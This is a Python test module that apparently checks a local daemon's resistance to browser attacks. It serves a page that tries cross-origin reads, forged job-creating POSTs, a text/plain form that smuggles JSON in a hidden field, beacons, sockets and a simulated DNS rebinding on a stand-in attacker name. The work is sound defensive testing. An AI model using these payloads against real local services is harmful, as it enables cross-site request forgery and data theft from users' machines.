"""Pages of other origins, in a real browser, that try whatever a page can do to a daemon on the same machine."""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from aiohttp import web

BROWSERS: Final = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
EVIL: Final = "evil.example"  # a name of the attacker's that points to our address, as after DNS rebinding

PAGE: Final = """<!doctype html><meta charset=utf-8><title>page</title><body><script>
const at = new URLSearchParams(location.search).get("at"), told = {};
const job = JSON.stringify({url: "http://127.0.0.1:9/", delay: "1d"});
async function attempt(name, make) {
  const late = new Promise(done => setTimeout(done, 3000, "refused: no answer"));
  try { told[name] = await Promise.race([make(), late]); } catch (err) { told[name] = "refused: " + err.name; }
}
async function read(path, how) {
  const answer = await fetch(at + path, how), text = await answer.text();
  return answer.type === "opaque" ? "opaque" : "read: " + text;
}
function load(tag, attribute, path) {
  return new Promise(done => {
    const made = document.createElement(tag);
    made.onload = () => done(tag + " loaded");
    made.onerror = () => done("refused: " + tag);
    made[attribute] = at + path;
    if (tag === "link") made.rel = "stylesheet";
    document.body.append(made);
  });
}
function submit(name, enctype, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = name;
    document.body.append(frame);
    Object.assign(form, {method: "POST", action: at + "/v1/jobs", enctype, target: name});
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {name: key, value, type: "hidden"});
      form.append(input);
    }
    document.body.append(form);
    frame.onload = () => { try { done("read: " + frame.contentDocument.body.textContent); } catch { done("opaque"); } };
    form.submit();
  });
}
(async () => {
  await attempt("get", () => read("/v1/jobs"));
  await attempt("get without cors", () => read("/v1/jobs", {mode: "no-cors"}));
  await attempt("get with a header", () => read("/v1/status", {headers: {"X-Request-Id": "x"}}));
  await attempt("document", () => read("/openapi.json"));
  await attempt("metrics", () => read("/metrics"));
  for (const type of ["text/plain", "application/json", "application/x-www-form-urlencoded"])
    for (const mode of ["cors", "no-cors"])
      await attempt("post " + type + " " + mode, () =>
        read("/v1/jobs", {method: "POST", mode, body: job, headers: {"Content-Type": type}, credentials: "include"}));
  for (const method of ["PUT", "PATCH", "DELETE"])
    await attempt(method, () => read("/v1/queues/default", {method, body: "{}"}));
  await attempt("reload", () => read("/v1/config/reload", {method: "POST", mode: "no-cors"}));
  await attempt("beacon", () => navigator.sendBeacon(at + "/v1/jobs", new Blob([job], {type: "text/plain"})) && "sent");
  await attempt("plain form", () => submit("a", "text/plain", {[job.slice(0, -1) + ',"name":"']: '"}'}));
  await attempt("form", () => submit("b", "application/x-www-form-urlencoded", {url: "http://127.0.0.1:9/"}));
  await attempt("img", () => load("img", "src", "/v1/jobs"));
  await attempt("script", () => load("script", "src", "/v1/jobs"));
  await attempt("link", () => load("link", "href", "/v1/jobs"));
  await attempt("events", () => new Promise((done, no) => {
    const stream = new EventSource(at + "/v1/events");
    stream.onopen = () => done("read: events");
    stream.onerror = () => no(new Error());
  }));
  await attempt("socket", () => new Promise((done, no) => {
    const socket = new WebSocket(at.replace("http", "ws") + "/v1/events");
    socket.onopen = () => done("read: a socket");
    socket.onerror = () => no(new Error());
  }));
  await attempt("own", () => fetch("/own").then(answer => answer.text()));
  await fetch("/told" + location.search, {method: "POST", body: JSON.stringify(told)});
})();
</script>"""
SANDBOX: Final = '<!doctype html><iframe sandbox="allow-scripts allow-forms" src="/page?{query}"></iframe>'


def browser() -> str | None:
    """Return the browser there is."""
    return next(filter(None, map(shutil.which, BROWSERS)), None)


@dataclass
class Pages:
    """A web server of somebody else's, and what its pages have told it."""

    port: int = 0
    told: "asyncio.Queue[dict[str, Any]]" = field(default_factory=asyncio.Queue)

    async def visit(self, program: str, page: str, profile: Path) -> dict[str, str]:
        """Open a page in a browser; return what came of each of its attempts."""
        options = (
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            f"--user-data-dir={profile}", f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        )  # fmt: skip
        quiet = asyncio.subprocess.DEVNULL
        opened = await asyncio.create_subprocess_exec(
            program, *options, "--remote-debugging-port=0", page, stdout=quiet, stderr=quiet, start_new_session=True
        )
        try:
            return await asyncio.wait_for(self.told.get(), 60)
        finally:
            opened.terminate()
            await opened.wait()


@asynccontextmanager
async def serve() -> AsyncIterator[Pages]:
    """Serve the pages, under whatever name the browser asks for."""
    pages = Pages()
    allowed = {"Access-Control-Allow-Origin": "*"}  # a sandboxed page is of no origin, not even of its own

    async def page(_request: web.Request) -> web.Response:
        return web.Response(text=PAGE, content_type="text/html")

    async def sandboxed(request: web.Request) -> web.Response:
        return web.Response(text=SANDBOX.format(query=request.query_string), content_type="text/html")

    async def own(_request: web.Request) -> web.Response:
        return web.Response(text="own", headers=allowed)

    async def told(request: web.Request) -> web.Response:
        pages.told.put_nowait(json.loads(await request.read()))
        return web.Response(headers=allowed)

    app = web.Application()
    app.add_routes(
        [web.get("/page", page), web.get("/sandboxed", sandboxed), web.get("/own", own), web.post("/told", told)]
    )
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    pages.port = runner.addresses[0][1]
    try:
        yield pages
    finally:
        await runner.cleanup()
